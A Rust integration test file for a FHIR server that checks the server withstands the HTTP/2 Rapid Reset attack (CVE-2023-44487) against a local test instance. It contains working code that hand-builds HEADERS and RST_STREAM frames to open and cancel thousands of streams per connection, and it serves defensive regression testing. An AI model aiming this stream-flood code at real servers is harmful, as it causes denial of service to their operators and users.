//! HTTP/2 streams that are opened and reset as fast as they can be (CVE-2023-44487), in raw frames
//! over a real socket.

use std::{
    io::{self, BufRead, BufReader, Read, Write},
    net::TcpStream,
    path::Path,
    process::Command,
    sync::{
        Arc,
        atomic::{AtomicBool, Ordering::Relaxed},
    },
    thread,
    time::Duration,
};

use rustls::{
    ClientConfig, ClientConnection, RootCertStore, StreamOwned,
    pki_types::{CertificateDer, pem::PemObject},
};
use serde_json::json;
use ward_tests::{House, Server, skip};

/// Streams that one attack opens.
const STREAMS: u32 = 10_000;

/// How an attack resets what it opens.
#[derive(Clone, Copy)]
enum Attack {
    /// At once, so that the server need not look at it.
    Together,
    /// As soon as the server has begun to work on as many as a connection may have.
    OnceBegun,
}

impl Attack {
    /// Streams sent in one go, before the attacker looks at what comes back.
    fn burst(self) -> u32 {
        match self {
            Attack::Together => 500,
            Attack::OnceBegun => 100,
        }
    }
}

/// Requests that others ask meanwhile.
const POLITE: usize = 200;

#[test]
fn streams_that_are_reset_at_once_take_nothing_from_others() {
    take_nothing_from_others(Attack::Together);
}

#[test]
fn streams_that_are_reset_once_begun_take_nothing_from_others() {
    take_nothing_from_others(Attack::OnceBegun);
}

fn take_nothing_from_others(kind: Attack) {
    let house = House::new();
    let Some(tls) = Tls::new(&house) else { return skip("openssl is not on this machine") };
    // As many as ten connections may have under way: work that is being broken off fits in however
    // slow the machine is, and work that outlives its stream fills it within a second.
    let server = house.serve_with(&[
        ("WARD_HTTP_TLS_CERT", &tls.cert),
        ("WARD_HTTP_TLS_KEY", &tls.key),
        ("WARD_LIMITS_REQUESTS", "1000"),
        ("WARD_LOG_LEVEL", "warn"),
    ]);
    let mut polite = Polite::new(&tls, &server, &house.token);
    for n in 0..200 {
        let patient = json!({ "resourceType": "Patient", "id": format!("p{n}"), "name": [{ "family": "Reset" }] });
        assert_eq!(polite.ask("PUT", &format!("/fhir/Patient/p{n}"), &patient.to_string()), 201);
    }
    // The first attack fills what is filled once: caches, pools, threads.
    assert_eq!(attack(kind, &tls, &server, &house.token), STREAMS);
    let (before, _) = server.memory_kib();

    let stop = AtomicBool::new(false);
    let statuses = thread::scope(|scope| {
        let attacker = scope.spawn(|| {
            let mut n_attacks = 0;
            while !stop.load(Relaxed) || n_attacks == 0 {
                assert_eq!(attack(kind, &tls, &server, &house.token), STREAMS);
                n_attacks += 1;
            }
        });
        let ask = |n: usize| polite.ask("GET", &format!("/fhir/Patient/p{}", n % 200), "");
        let statuses: Vec<u16> = (0..POLITE).map(ask).collect();
        stop.store(true, Relaxed);
        attacker.join().unwrap();
        statuses
    });
    assert_eq!(statuses, [200; POLITE]);
    let (after, _) = server.memory_kib();
    assert!(after < before + 64 * 1024, "from {before} to {after} KiB");
    // Every place was given back.
    let log = house.must(&["audit", "verify"]).stdout;
    assert!(String::from_utf8_lossy(&log).contains("the log is whole"));
}

/// Opens and resets `STREAMS` streams, on a new connection whenever the server has had enough, and
/// gives how many were opened.
fn attack(kind: Attack, tls: &Tls, server: &Server, token: &str) -> u32 {
    let mut n_opened = 0;
    while n_opened < STREAMS {
        let Ok(mut attacker) = Attacker::new(tls, server) else { continue };
        let mut next_id = 1;
        while n_opened < STREAMS {
            let ids = (next_id..).step_by(2).take(usize::try_from(kind.burst()).unwrap());
            let (mut opens, mut resets) = (Vec::new(), Vec::new());
            for id in ids {
                search_frame(id, token, &mut opens);
                let resets = match kind {
                    Attack::Together => &mut opens,
                    Attack::OnceBegun => &mut resets,
                };
                frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes(), resets);
                next_id = id + 2;
            }
            n_opened += kind.burst();
            // A connection that the server ends is what it should come to.
            if attacker.burst(opens).and_then(|()| attacker.burst(resets)).is_err() {
                break;
            }
        }
    }
    n_opened
}

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GO_AWAY: u8 = 7;
const ACK: u8 = 1;
const END_STREAM_AND_HEADERS: u8 = 5;
const CANCEL: u32 = 8;

/// - Source: RFC 9113, 4.1.
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], out: &mut Vec<u8>) {
    let len = u32::try_from(payload.len()).unwrap().to_be_bytes();
    out.extend(&len[1..]);
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend(payload);
}

/// A search, as HPACK writes it without any table of its own.
///
/// - Source: RFC 7541, 6.1 and 6.2.2, and its static table.
fn search_frame(stream: u32, token: &str, out: &mut Vec<u8>) {
    let mut block = vec![0x82, 0x87];
    let mut literal = |name: &[u8], value: &str| {
        block.extend(name);
        block.push(u8::try_from(value.len()).unwrap());
        block.extend(value.bytes());
    };
    literal(&[0x04], "/fhir/Patient?family=reset&_sort=-_lastUpdated");
    literal(&[0x01], "ward.test");
    literal(&[0x0f, 8], &format!("Bearer {token}"));
    frame(HEADERS, END_STREAM_AND_HEADERS, stream, &block, out);
}

struct Attacker(StreamOwned<ClientConnection, TcpStream>);

impl Attacker {
    fn new(tls: &Tls, server: &Server) -> io::Result<Attacker> {
        let mut stream = tls.connect(server, b"h2")?;
        let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        frame(SETTINGS, 0, 0, &[], &mut hello);
        stream.write_all(&hello)?;
        Ok(Attacker(stream))
    }

    /// Sends, and reads until a ping at the end is answered.
    fn burst(&mut self, mut bytes: Vec<u8>) -> io::Result<()> {
        frame(PING, 0, 0, &[7; 8], &mut bytes);
        self.0.write_all(&bytes)?;
        self.0.flush()?;
        loop {
            let mut head = [0; 9];
            self.0.read_exact(&mut head)?;
            let len = u32::from_be_bytes([0, head[0], head[1], head[2]]);
            let mut payload = vec![0; usize::try_from(len).unwrap()];
            self.0.read_exact(&mut payload)?;
            match (head[3], head[4]) {
                (PING, ACK) => return Ok(()),
                (GO_AWAY, _) => return Err(io::ErrorKind::ConnectionAborted.into()),
                _ => {}
            }
        }
    }
}

/// A client of another kind: one request after the other, each answered.
struct Polite {
    stream: BufReader<StreamOwned<ClientConnection, TcpStream>>,
    token: String,
}

impl Polite {
    fn new(tls: &Tls, server: &Server, token: &str) -> Polite {
        let stream = BufReader::new(tls.connect(server, b"http/1.1").unwrap());
        Polite { stream, token: token.to_owned() }
    }

    fn ask(&mut self, method: &str, path: &str, body: &str) -> u16 {
        let head = format!(
            "{method} {path} HTTP/1.1\r\nhost: ward.test\r\nauthorization: Bearer {}\r\n\
             content-length: {}\r\n\r\n{body}",
            self.token,
            body.len()
        );
        self.stream.get_mut().write_all(head.as_bytes()).unwrap();
        let mut lines = Vec::new();
        loop {
            let mut line = String::new();
            assert_ne!(self.stream.read_line(&mut line).unwrap(), 0, "hung up");
            match line.trim() {
                "" => break,
                line => lines.push(line.to_ascii_lowercase()),
            }
        }
        let length = lines.iter().find_map(|line| line.strip_prefix("content-length: "));
        let mut body = vec![0; length.map_or(0, |length| length.parse().unwrap())];
        self.stream.read_exact(&mut body).unwrap();
        lines[0].split(' ').nth(1).unwrap().parse().unwrap()
    }
}

/// A certificate for `ward.test`, and a client that trusts it.
struct Tls {
    cert: String,
    key: String,
    roots: RootCertStore,
}

impl Tls {
    fn new(house: &House) -> Option<Tls> {
        let file = |name: &str| {
            let path = house.data().with_file_name(name);
            path.to_str().unwrap().to_owned()
        };
        let (cert, key) = (file("cert.pem"), file("key.pem"));
        let made = Command::new("openssl")
            .args(["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256"])
            .args(["-nodes", "-days", "2", "-subj", "/CN=ward.test"])
            .args(["-addext", "subjectAltName=DNS:ward.test"])
            .args(["-addext", "basicConstraints=critical,CA:FALSE"])
            .args(["-keyout", &key, "-out", &cert])
            .output();
        if !made.is_ok_and(|made| made.status.success()) {
            return None;
        }
        let mut roots = RootCertStore::empty();
        roots.add(CertificateDer::from_pem_file(Path::new(&cert)).unwrap()).unwrap();
        Some(Tls { cert, key, roots })
    }

    fn connect(
        &self,
        server: &Server,
        protocol: &[u8],
    ) -> io::Result<StreamOwned<ClientConnection, TcpStream>> {
        let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
        let config = ClientConfig::builder_with_provider(provider);
        let config = config.with_safe_default_protocol_versions().unwrap();
        let mut config = config.with_root_certificates(self.roots.clone()).with_no_client_auth();
        config.alpn_protocols = vec![protocol.to_vec()];
        let name = "ward.test".try_into().unwrap();
        let connection = ClientConnection::new(Arc::new(config), name).unwrap();
        let stream = TcpStream::connect(&server.address)?;
        stream.set_nodelay(true)?;
        stream.set_read_timeout(Some(Duration::from_secs(120)))?;
        Ok(StreamOwned::new(connection, stream))
    }
}
